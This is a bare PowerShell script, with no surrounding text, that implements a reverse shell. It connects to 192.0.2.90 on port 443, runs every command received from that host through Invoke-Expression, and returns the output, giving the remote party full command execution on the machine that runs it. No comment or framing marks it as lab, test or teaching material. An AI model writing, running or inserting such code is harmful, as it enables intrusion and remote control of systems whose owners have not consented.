$c = New-Object System.Net.Sockets.TCPClient('192.0.2.90', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | % {0}
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
  $o = (iex $d 2>&1 | Out-String)
  $r = [text.encoding]::ASCII.GetBytes($o); $s.Write($r, 0, $r.Length)
}
